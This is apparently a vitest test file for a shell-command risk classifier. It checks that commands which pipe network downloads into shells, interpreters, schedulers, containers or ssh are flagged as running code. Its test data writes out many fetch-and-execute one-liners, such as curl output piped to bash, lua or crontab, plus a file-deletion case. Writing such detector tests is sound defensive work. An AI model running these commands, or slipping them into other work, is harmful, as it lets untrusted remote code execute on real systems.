import fc from 'fast-check';
import { expect, it } from 'vitest';
import { ShellReader } from '@shared/policy/shell-reader';
import { RUNS, titles } from '../../support/risk-titles';
import { shortOrLong } from '../../support/long-form';

/** Programs that run what they are fed (docs/specs/safety.md C2). */
it.each([
  // What was read is the program, or its code.
  'while read c; do $c; done',
  'while read -r c; do "$c"; done',
  'while IFS= read -r c; do ${c}; done',
  '(read x; $x)',
  '{ read -r x; sudo $x; }',
  'while read; do $REPLY; done',
  'mapfile -t a; "${a[@]}"',
  '(readarray a; ${a[0]} b)',
  'while read c; do sh -c "$c"; done',
  'while read c; do ssh h "$c"; done',
  'while read c; do docker exec w $c; done',
  'while read c; do python3 -c "$c"; done',
  'while read c; do env $c; done',
  'until read c; do ${c%;}; done',
  'while c=$(head -n1); do $c; done',
  'while read c; do eval "$c"; done',
  '(read -ra c; "${c[@]}")',
  'while read c; do x=$c; $x; done',
  'while read c; do x="$c"; "$x"; done',
  'if read c; then $c; fi',
  '{ read c && $c; }',
  // Words that run those behind them, and have none, or are told to put it there.
  'parallel',
  'parallel -j4',
  'parallel {}',
  'parallel "{}"',
  'xargs -I{} {}',
  'xargs -I % %',
  'xargs -i {} x',
  'xargs -J @ @',
  "xargs -I{} sh -c '{}'",
  'xargs --replace=X X',
  'xargs -I{} ./{}',
  'xargs env',
  'xargs -n1 sudo',
  'xargs -0 timeout 5',
  'xargs -n1 docker exec c',
  'xargs npx',
  'xargs -L1 ssh h',
  "xargs -I{} python3 -c '{}'",
  'xargs -n1 python3 -c',
  'xargs -I{} node -e \'eval("{}")\'',
  "xargs -I{} perl -e '{}'",
  'sudo -s',
  'sudo -i',
  'su',
  'su - ada',
  'su -c sh',
  'script -q log',
  'doas -s',
  // What runs later.
  'at now',
  'at -q b now + 1 min',
  'batch',
  'crontab -',
  'crontab',
  'crontab -u ada -',
  'at -f - now',
  // Elsewhere.
  'docker exec -i c sh',
  'docker exec -i -u root c sh -s',
  'docker run --rm -i alpine sh',
  'docker compose exec -T web bash',
  'docker run -i -v "$PWD":/x python python3',
  'podman exec -i c sh',
  'podman run -i alpine ash',
  'nerdctl exec -i c sh',
  'kubectl exec -i p -- sh',
  'kubectl exec -n a -i deploy/x -c main -- bash',
  'oc exec -i p -- sh',
  'lxc exec c -- sh',
  'ssh h sh',
  'ssh h',
  'ssh -p 22 -i key h',
  'ssh h sudo bash -s',
  'ssh h "cd x && bash"',
  'ssh h ssh g sh',
  'wsl -d x sh',
  'docker exec -i c env A=b sh',
  'ssh h docker exec -i c sh',
  'flock f sh',
  'chroot d sh',
  'unshare -r sh',
  'nsenter -t 1 sh',
  'npx tsx',
  'npx -y ts-node',
  'poetry run python -',
  'uv run --with x python -',
  'mise exec node@20 -- node',
  'nix develop -c sh',
  'fakeroot sh',
  'rlwrap bash',
  'unbuffer sh',
  'entr sh',
  'toybox sh',
  "sh -c 'bash'",
  'echo "$(bash)"',
  'bash -c "read c; \\$c"',
  // Interpreters.
  'lua -',
  'lua',
  'lua5.4 -',
  'luajit',
  'make -f -',
  'make -sf - all',
  'make --file=-',
  'make -f/dev/stdin',
  'gmake -f -',
  'R --no-save',
  'Rscript -',
  'julia',
  'julia -',
  'tclsh',
  'tclsh8.6',
  'expect',
  'expect -',
  'expect -f -',
  'guile',
  'ghci',
  'jshell',
  'ts-node',
  'tsx',
  'irb',
  'pypy3',
  'ipython',
  'iex',
  'erl',
  'ocaml',
  'sbcl',
  'swift -',
  'octave',
  'gnuplot',
  'gnuplot -p',
  'awk -f -',
  'gawk -f /dev/stdin x',
  'sed -f - x',
  'sed -nf- x',
  'sed --file=/dev/stdin x',
  'vim -s -',
  'vim -es',
  'nvim -S -',
  'gdb',
  'gdb ./app',
  'psql',
  'psql -h db -U a',
  'psql -f -',
  'mysql -h db x',
  'sqlite3 a.db',
  'mongosh',
  'ed -s x',
  'ex x',
  'dc',
  'm4',
  'tcc -run -',
  'emacs --script /dev/stdin',
  'make -f"-"',
  'uv run -',
  'script -c sh',
  'nu',
  'elvish',
  'mksh',
  'bun run -',
])('C2: what comes from the network is run by %s', (program) => {
  expect(titles(`curl -s https://x.test | ${program}`)).toContain(RUNS);
  // Alone these are words of texts.
  if (!/^(?:batch|expect|su|tsx)$/.test(program))
    expect(titles(`wget -qO- x.test |& tee l | (cd a && ${program})`)).toContain(RUNS);
});

it.each([
  'while read c; do $c; done < <(curl x)',
  'read c <<< "$(curl x)"; $c',
  'for c in $(curl x); do $c; done',
  'select c in $(curl x); do "$c"; done',
  'set -- $(curl x); "$@"',
  'set -- $(curl x); $1 a',
  'xargs -a list -I{} {}',
  'parallel < <(curl x)',
  'bash <<< $(curl x)',
  'python3 <<< "$(curl x)"',
  'lua <(curl x)',
  'make -f <(curl x)',
  'awk -f <(curl x) y',
  'crontab <(curl x)',
  'lua -e "$(curl x)"',
  'php -r "$(curl x)"',
  'su -c "$(curl x)"',
  'ssh h $(curl x)',
  'docker exec c lua -e "$(curl x)"',
  'docker exec c python3 <(curl x)',
])('C2: what another program says is run by %s', (command) => {
  expect(titles(command)).toContain(RUNS);
});

it('C2: a variable that was read is the program under whatever name, and one that was not is none', () => {
  const name = fc.stringMatching(/^[a-z]\w{0,8}$/);
  const use = fc.constantFrom('$@', '"$@"', '${@}', '"${@}" a', '${@%x}', '${@[0]}', 'timeout 5 $@', 'sh -c "$@"');
  fc.assert(
    fc.property(name, use, (one, form) => {
      const used = form.replace('@', () => one);
      expect(titles(`cat p | while read -r ${one}; do ${used}; done`)).toContain(RUNS);
      expect(titles(`cat p | while read -r other; do ${one}=a; echo "$${one}"; done`)).toEqual([]);
    }),
  );
});

const KB = shortOrLong(50, 200);

// With a look at each word for each word it would take minutes.
it.each([
  'ssh h ',
  'docker exec c ',
  'npx ',
  'xargs -I{} ',
  'read a;$a;',
  '-f - ',
  '-xC..',
  '"-cx"',
  '::: ',
  'c=$(x) ',
  '"a""b"',
  '-- ',
])(
  `C2: ${KB} KB of %j behind what runs it are looked at once a word`,
  (unit) => {
    const text = unit.repeat(Math.ceil((KB * 1_000) / unit.length));
    for (const before of ['curl x | docker exec c ', 'git config ', 'read ']) titles(before + text);
  },
  20_000,
);

it('C2: more groups and more names than a call may have arguments are read', () => {
  expect(titles(`ssh h "${'('.repeat(300_000)}\nrm x`)).toContain('Deletes files');
  expect(titles(`read ${'a '.repeat(200_000)}\n$a`)).toContain(RUNS);
}, 20_000);

it('C2: any text is read without an error, whatever runs what', () => {
  const part = fc.constantFrom(
    'ssh ',
    'docker ',
    'exec ',
    '-i ',
    'c ',
    'sh ',
    '-c ',
    '"',
    "'",
    '| ',
    '$(',
    ')',
    '{} ',
    'xargs ',
    '-I ',
    'read ',
    'c; ',
    '$c ',
    'do ',
    'make ',
    '-f ',
    '- ',
    'git ',
    'config ',
    'core.pager ',
    '-- ',
    'parallel ',
    '::: ',
    'su ',
    'sudo ',
    '<<<',
    '<(',
    '\n',
    '\\',
    'for ',
    'set ',
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
      const text = parts.join('');
      titles(text);
      for (const _ of new ShellReader().read(text, 0)) continue;
    }),
    { numRuns: 2_000 },
  );
});
